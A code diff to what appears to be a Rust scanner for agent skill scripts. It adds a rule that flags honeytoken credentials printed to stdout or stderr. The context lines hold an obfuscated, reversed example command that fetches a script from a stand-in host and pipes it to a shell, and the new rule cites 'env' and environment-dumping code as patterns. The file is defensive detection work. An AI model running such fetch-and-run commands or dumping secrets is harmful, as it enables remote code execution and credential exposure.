@@ -166,6 +166,18 @@ it is.\n\
 Example: `cmd=$(echo 'hs | i/elpmaxe.x//:ptth s- lruc' | rev); bash -c \"$cmd\"`.",
     },
     RuleInfo {
+        code: "SK916",
+        slug: "secret-printed-to-agent",
+        severity: Severity::High,
+        summary: "a honeytoken's canary was printed: the secret entered the agent's context",
+        docs: "What: a canary of a planted credential (environment variable or credential file) \
+found in what a step printed, on stdout or stderr, raw or encoded.\n\
+Why: whatever a skill's script prints, the agent reads; from there it reaches the model \
+provider, transcripts and logs. A script that dumps the environment or cats a credential file \
+exposes every secret in it, whether or not anything is sent anywhere. Stage: exfiltration.\n\
+Example: a status script that ends with `env`, or `print(dict(os.environ))`.",
+    },
+    RuleInfo {
         code: "SK910",
         slug: "credential-sent-to-own-service",
         severity: Severity::Info,
@@ -466,7 +478,7 @@ fn finding(code: &str, severity: Severity, confidence: Confidence, message: Stri
         .find(|r| r.code == code)
         .expect("known G3 rule");
     let category = match code {
-        "SK901" | "SK903" | "SK909" | "SK910" | "SK911" => "exfiltration",
+        "SK901" | "SK903" | "SK909" | "SK910" | "SK911" | "SK916" => "exfiltration",
         "SK902" => "credentials",
         "SK904" | "SK907" => "persistence",
         "SK905" | "SK912" => "execution",
@@ -613,6 +625,8 @@ fn exfiltration(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTr
         });
         let (code, key) = if hit.place == "file" {
             ("SK909", "file")
+        } else if hit.place == "stdout" || hit.place == "stderr" {
+            ("SK916", "printed")
         } else if hit.place == "intent" {
             // Only calls that send something away count; a canary in `open` or `import`
             // arguments is a read, not a send.
@@ -658,6 +672,20 @@ fn exfiltration(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTr
                 finding(code, Severity::Critical, Confidence::High, message)
                     .with_capability(Capability::NetEgress)
                     .with_stage(KillChainStage::Exfiltration)
+            }
+            "SK916" => {
+                caps.insert(Capability::SecretRead);
+                finding(
+                    code,
+                    Severity::High,
+                    Confidence::High,
+                    format!(
+                        "{message}: whatever a script prints, the agent reads, and it reaches \
+                         the model provider and the logs"
+                    ),
+                )
+                .with_capability(Capability::SecretRead)
+                .with_stage(KillChainStage::Exfiltration)
             }
             "SK909" => {
                 caps.insert(Capability::SecretRead);
